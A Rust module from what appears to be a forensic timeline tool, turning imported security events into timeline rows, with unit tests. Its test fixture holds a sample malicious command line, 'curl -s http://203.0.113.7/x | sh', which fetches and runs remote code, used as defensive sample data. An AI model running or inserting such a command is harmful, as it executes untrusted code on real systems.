//! Rows from imported events (`records/events.jsonl` of an import bundle, one
//! [`dossier_events::Event`] a line): one row per event at the event's own time
//! (`Event time`), its message a summary (action, process and command line, script or journal
//! message, user, peer, file, outcome), every field of the event an attribute (nested ones
//! flattened: `process_pid`, `peer_addr`; the source's own fields as `fields_<name>`). The
//! row's `host` is the event's own (an import bundle may hold several hosts' files: a Defender
//! export names each row's device, an audit log its `node=`), and `bundle_host` the import
//! bundle's. An event whose time does not parse is counted as skipped with its line.

use super::ctx::{Ctx, Origin};
use super::row::{Row, clip};
use dossier_events::{Event, Format, Peer, Process};
use dossier_plugin_api::Timestamp;

/// The row of one line of imported events.
pub(crate) fn event_line(ctx: &mut Ctx<'_>, o: &Origin<'_>, line: &[u8]) {
    let e: Event = match serde_json::from_slice(line) {
        Ok(e) => e,
        Err(err) => {
            return ctx.skip(format!("{} line {}: not an event: {err}", o.member, o.line));
        }
    };
    let Some(t) = Timestamp::parse(&e.time) else {
        return ctx.skip(format!(
            "{} line {}: event time {:?} is not RFC 3339",
            o.member,
            o.line,
            clip(&e.time, 40)
        ));
    };
    let mut row = event_row(t, &e);
    row.set("bundle_host", ctx.host());
    ctx.counts.events += 1;
    ctx.emit(Some(o), row);
}

/// The row of an event at time `t` (`host` the event's, when it names one).
pub(crate) fn event_row(t: Timestamp, e: &Event) -> Row {
    let mut row = Row::new(t, "Event time", summary(e));
    if !e.host.is_empty() {
        row.set("host", e.host.as_str());
    }
    row.set("source_format", e.source.format.name())
        .set_opt("source_table", e.source.table.as_deref())
        .set("action", e.action.as_str())
        .set_opt("script", e.script.as_deref())
        .set_opt("user", e.user.as_deref())
        .set_opt("file", e.file.as_deref())
        .set_opt("file_sha256", e.file_sha256.as_deref())
        .set_opt("outcome", e.outcome.as_deref())
        .set("origin_file", e.origin.file.as_str())
        .set("origin_record", e.origin.record.as_str());
    if let Some(p) = &e.process {
        process_attrs(&mut row, "process", p);
    }
    if let Some(p) = &e.parent {
        process_attrs(&mut row, "parent", p);
    }
    if let Some(p) = &e.peer {
        peer_attrs(&mut row, "peer", p);
    }
    if let Some(p) = &e.local {
        peer_attrs(&mut row, "local", p);
    }
    for (k, v) in &e.fields {
        let name: String = k
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
            .collect();
        row.set(&format!("fields_{name}"), v.as_str());
    }
    row
}

fn process_attrs(row: &mut Row, prefix: &str, p: &Process) {
    let name = |f: &str| format!("{prefix}_{f}");
    row.set_opt(&name("pid"), p.pid)
        .set_opt(&name("ppid"), p.ppid)
        .set_opt(&name("name"), p.name.as_deref())
        .set_opt(&name("exe"), p.exe.as_deref())
        .set_opt(&name("command_line"), p.command_line.as_deref())
        .set_opt(&name("sha256"), p.sha256.as_deref())
        .set_opt(&name("user"), p.user.as_deref());
}

fn peer_attrs(row: &mut Row, prefix: &str, p: &Peer) {
    row.set_opt(&format!("{prefix}_addr"), p.addr.as_deref())
        .set_opt(&format!("{prefix}_port"), p.port)
        .set_opt(&format!("{prefix}_protocol"), p.protocol.as_deref());
}

/// One line saying what happened: `ProcessCreated: bash (pid 4242) \`curl ...\` user alice
/// peer 203.0.113.7:4444`.
fn summary(e: &Event) -> String {
    let mut s = e.action.clone();
    let mut parts = Vec::new();
    if let Some(p) = &e.process {
        let who = p
            .name
            .as_deref()
            .or(p.exe.as_deref())
            .map(str::to_string)
            .unwrap_or_default();
        let pid = p.pid.map(|n| format!(" (pid {n})")).unwrap_or_default();
        if !who.is_empty() || !pid.is_empty() {
            parts.push(format!("{who}{pid}").trim().to_string());
        }
        if let Some(c) = &p.command_line {
            parts.push(format!("`{}`", clip(c, 300)));
        }
    }
    if let Some(sc) = &e.script {
        // The journal's MESSAGE is kept as the event's text; it is no script.
        let what = match e.source.format {
            Format::Journal => "message",
            _ => "script",
        };
        parts.push(format!("{what} `{}`", clip(sc, 200)));
    }
    if let Some(u) = e
        .user
        .as_deref()
        .or(e.process.as_ref().and_then(|p| p.user.as_deref()))
    {
        parts.push(format!("user {u}"));
    }
    if let Some(p) = &e.peer {
        if let Some(a) = &p.addr {
            let port = p.port.map(|n| format!(":{n}")).unwrap_or_default();
            parts.push(format!("peer {a}{port}"));
        }
    }
    if let Some(f) = &e.file {
        parts.push(format!("file {f}"));
    }
    if let Some(out) = &e.outcome {
        parts.push(format!("({out})"));
    }
    if !parts.is_empty() {
        s.push_str(": ");
        s.push_str(&parts.join(" "));
    }
    s.replace(['\n', '\r'], " ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use dossier_events::{Origin as EvOrigin, Source};

    pub(crate) fn an_event() -> Event {
        Event {
            time: "2025-11-05T01:02:03.5Z".into(),
            host: "web01.example.org".into(),
            source: Source {
                format: Format::DefenderJson,
                table: Some("DeviceProcessEvents".into()),
            },
            action: "ProcessCreated".into(),
            process: Some(Process {
                pid: Some(4242),
                name: Some("bash".into()),
                command_line: Some("bash -c 'curl -s http://203.0.113.7/x | sh'".into()),
                user: Some("alice".into()),
                ..Default::default()
            }),
            parent: None,
            script: None,
            user: None,
            peer: Some(Peer {
                addr: Some("203.0.113.7".into()),
                port: Some(80),
                protocol: Some("tcp".into()),
            }),
            local: None,
            file: None,
            file_sha256: None,
            outcome: Some("success".into()),
            fields: [(
                "InitiatingProcessAccountName".to_string(),
                "alice".to_string(),
            )]
            .into_iter()
            .collect(),
            origin: EvOrigin {
                file: "imported/export.json".into(),
                record: "line 7".into(),
            },
        }
    }

    #[test]
    fn an_event_row_summarises_and_flattens_the_event() {
        let e = an_event();
        let row = event_row(Timestamp::parse(&e.time).unwrap(), &e);
        assert_eq!(row.desc, "Event time");
        assert_eq!(
            row.message,
            "ProcessCreated: bash (pid 4242) `bash -c 'curl -s http://203.0.113.7/x | sh'` user alice peer 203.0.113.7:80 (success)"
        );
        let a = &row.attrs;
        assert_eq!(a["process_pid"], 4242);
        assert_eq!(a["peer_addr"], "203.0.113.7");
        assert_eq!(a["source_table"], "DeviceProcessEvents");
        assert_eq!(a["fields_InitiatingProcessAccountName"], "alice");
        assert_eq!(a["origin_record"], "line 7");
        assert_eq!(a["host"], "web01.example.org");
    }

    #[test]
    fn a_journal_message_is_called_a_message_and_a_hostless_event_names_no_host() {
        let mut e = an_event();
        e.source = Source {
            format: Format::Journal,
            table: Some("sshd".into()),
        };
        e.action = "log".into();
        e.process = None;
        e.peer = None;
        e.outcome = None;
        e.script = Some("Server listening on 0.0.0.0 port 22.".into());
        e.host = String::new();
        let row = event_row(Timestamp::parse(&e.time).unwrap(), &e);
        assert_eq!(
            row.message,
            "log: message `Server listening on 0.0.0.0 port 22.`"
        );
        assert!(!row.attrs.contains_key("host"));
    }
}
